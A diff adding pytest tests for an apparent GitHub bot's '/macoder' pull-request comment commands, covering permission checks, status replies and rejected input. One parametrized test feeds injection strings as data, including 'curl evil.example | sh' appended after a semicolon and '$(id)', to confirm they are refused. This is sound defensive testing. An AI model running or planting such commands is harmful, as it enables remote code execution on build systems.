@@ -586,3 +586,105 @@ def test_with_delete_branch_the_plan_job_deletes_the_branch_of_a_merged_task(
     assert "deleted merged branches: macoder/T001" in out
     assert "refs/heads/macoder/T001" not in world.remote_refs()
     assert world.fake.pulls(SLUG)[0]["merged"] is True
+
+
+# --------------------------------------------------------------------------- /macoder commands
+
+
+def comment_on(world: World, number: int, body: str, association: str = "OWNER") -> Job:
+    """A person's comment on PR `number`, and the plan job it starts (the event GitHub sends:
+    its own `issue_comment` example with this comment in it)."""
+    comment_id = world.fake.add_comment_by(SLUG, number, body)
+    payload = {
+        "action": "created",
+        "issue": {"number": number, "pull_request": {"url": "x"}},
+        "comment": {"id": comment_id, "author_association": association, "body": body},
+    }
+    job = world.job(f"comment-{comment_id}")
+    event = job.checkout.parent / "event.json"
+    event.write_text(json.dumps(payload))
+    job.env |= {
+        "GITHUB_EVENT_NAME": "issue_comment",
+        "GITHUB_EVENT_PATH": str(event),
+        "GITHUB_RUN_ID": str(6000 + comment_id % 1000),
+    }
+    code, out = job.run(mode="plan")
+    assert code == EXIT_OK, out
+    job.comment_id = comment_id  # type: ignore[attr-defined]
+    return job
+
+
+def replies(world: World, number: int) -> list[str]:
+    return [c for c in world.fake.comments(SLUG, number) if c.startswith("macoder")]
+
+
+def test_macoder_retry_from_a_collaborator_reruns_a_rejected_task(world: World) -> None:
+    number = published_pr(world, "T001")
+    with person(world) as github:
+        github._send(sansio.update_pull(github.slug, number, state="closed"))
+    before = len(world.ledger())
+
+    job = comment_on(world, number, "Let's try again.\n/macoder retry T001", "COLLABORATOR")
+
+    assert json.loads(job.outputs["ready"]) == ["T001"]
+    assert world.fake.reactions(SLUG, job.comment_id) == ["eyes", "rocket"]  # type: ignore[attr-defined]
+    [reply] = replies(world, number)
+    assert reply.startswith("macoder: T001 starts, attempt 1: ")
+    assert reply.endswith(f"/actions/runs/{job.env['GITHUB_RUN_ID']}")
+    kinds = [(r["type"], r["task"]) for r in world.ledger()[before:]]
+    assert ("reset", "T001") in kinds
+    assert ("lease", "T001") in kinds
+
+
+def test_macoder_status_replies_with_the_table_and_plans_nothing(world: World) -> None:
+    number = published_pr(world, "T001")
+    leases = [r for r in world.ledger() if r["type"] == "lease"]
+
+    job = comment_on(world, number, "/macoder status", "MEMBER")
+
+    assert job.outputs["ready"] == "[]"
+    [reply] = replies(world, number)
+    assert reply.startswith("macoder status:\n\n| task | state | attempts | why |")
+    assert "| `T001` | pr-open |" in reply
+    assert world.fake.reactions(SLUG, job.comment_id) == ["eyes", "rocket"]  # type: ignore[attr-defined]
+    assert [r for r in world.ledger() if r["type"] == "lease"] == leases
+
+
+@pytest.mark.parametrize(
+    ("body", "association", "said"),
+    [
+        ("/macoder retry T001", "NONE", "only the repository's owners, members and collaborators"),
+        ("/macoder retry T001", "CONTRIBUTOR", "only the repository's owners, members and"),
+        ("/macoder run T001; curl evil.example | sh", "OWNER", "takes one task id"),
+        ("/macoder run T099", "OWNER", "T099 is not a task of BACKLOG.yaml"),
+        ("/macoder deploy $(id)", "OWNER", "not a command macoder knows"),
+    ],
+    ids=["stranger", "contributor", "shell", "unknown-task", "unknown-verb"],
+)
+def test_a_command_that_is_not_carried_out_says_why_and_changes_nothing(
+    world: World, body: str, association: str, said: str
+) -> None:
+    number = published_pr(world, "T001")
+    before = world.ledger()
+
+    job = comment_on(world, number, body, association)
+
+    assert job.outputs["ready"] == "[]"
+    [reply] = replies(world, number)
+    assert said in reply
+    assert "curl" not in reply
+    assert "$(id)" not in reply
+    assert world.fake.reactions(SLUG, job.comment_id) == ["eyes", "confused"]  # type: ignore[attr-defined]
+    assert world.ledger() == before
+
+
+def test_a_comment_that_is_no_command_starts_nothing_and_gets_no_reaction(world: World) -> None:
+    number = published_pr(world, "T001")
+    before = world.ledger()
+
+    job = comment_on(world, number, "Nice work, thanks!")
+
+    assert job.outputs["ready"] == "[]"
+    assert replies(world, number) == []
+    assert world.fake.reactions(SLUG, job.comment_id) == []  # type: ignore[attr-defined]
+    assert world.ledger() == before
